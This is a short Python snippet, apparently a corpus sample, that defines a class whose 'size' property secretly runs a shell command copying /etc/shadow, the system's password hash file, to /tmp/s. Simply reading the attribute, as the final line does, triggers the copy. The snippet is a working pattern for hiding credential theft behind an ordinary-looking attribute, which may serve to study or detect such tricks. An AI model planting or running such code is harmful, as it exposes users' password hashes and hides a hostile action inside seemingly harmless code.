# corpus: property getter bound to a shell call, triggered by plain attribute access
import os

class Report:
    size = property(lambda self: os.system("cat /etc/shadow > /tmp/s"))

Report().size
